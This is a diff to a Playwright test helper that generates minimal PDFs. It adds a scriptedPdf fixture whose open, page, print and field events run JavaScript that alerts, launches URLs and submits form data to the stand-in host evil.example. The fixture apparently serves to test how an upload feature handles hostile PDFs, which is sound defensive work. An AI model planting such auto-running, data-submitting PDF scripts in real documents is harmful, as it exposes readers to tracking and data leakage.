@@ -2,16 +2,16 @@ import type { APIRequestContext } from '@playwright/test';
 import { expect, type TestHost } from '../fixtures';
 import type { Account } from './people';
 
-/** A PDF with a page for each text. */
-export const pdfWith = (...pages: string[]): Buffer => {
+/** A PDF with a page for each text; `catalog` and `page` are further entries of those dictionaries. */
+const makePdf = (pages: readonly string[], { catalog = '', page = '' } = {}): Buffer => {
   const objects = [
-    '<</Type/Catalog/Pages 2 0 R>>',
+    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
     `<</Type/Pages/Kids[${pages.map((_, at) => `${4 + at * 2} 0 R`).join(' ')}]/Count ${pages.length}>>`,
     '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
     ...pages.flatMap((text, at) => {
       const content = `BT /F 18 Tf 60 700 Td (${text}) Tj ET`;
       return [
-        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents ${5 + at * 2} 0 R/Resources<</Font<</F 3 0 R>>>>>>`,
+        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents ${5 + at * 2} 0 R/Resources<</Font<</F 3 0 R>>>>${page}>>`,
         `<</Length ${content.length}>>stream\n${content}\nendstream`,
       ];
     }),
@@ -26,6 +26,27 @@ export const pdfWith = (...pages: string[]): Buffer => {
   return Buffer.from(
     `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}${end}`,
   );
+};
+
+/** A PDF with a page for each text. */
+export const pdfWith = (...pages: string[]): Buffer => makePdf(pages);
+
+/**
+ * A PDF of a page that runs scripts when it is opened, shown, left, printed and clicked on, and
+ * calls evil.example.
+ */
+export const scriptedPdf = (text: string): Buffer => {
+  const script = (from: string): string =>
+    `<</S/JavaScript/JS(app.alert\\('${from}'\\); app.launchURL\\('http://evil.example/${from}'\\); this.submitForm\\('http://evil.example/${from}'\\);)>>`;
+  const events = (from: string, ...names: string[]): string =>
+    `/AA<<${names.map((name) => `/${name} ${script(`${from}-${name}`)}`).join('')}>>`;
+  const field = `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(x)/F 4/Rect[60 600 300 640]${events('field', 'E', 'Fo', 'F', 'C', 'V')}>>`;
+  const link =
+    '<</Type/Annot/Subtype/Link/Rect[0 0 612 600]/A<</S/URI/URI(http://evil.example/link)>>>>';
+  return makePdf([text], {
+    catalog: `/OpenAction ${script('open')}${events('document', 'WC', 'WS', 'WP', 'DP')}/Names<</JavaScript<</Names[(run) ${script('names')}]>>>>`,
+    page: `${events('page', 'O', 'C')}/Annots[${field}${link}]`,
+  });
 };
 
 type Sent = { jobId: string; note?: string; cv?: { name: string; bytes: Buffer } };
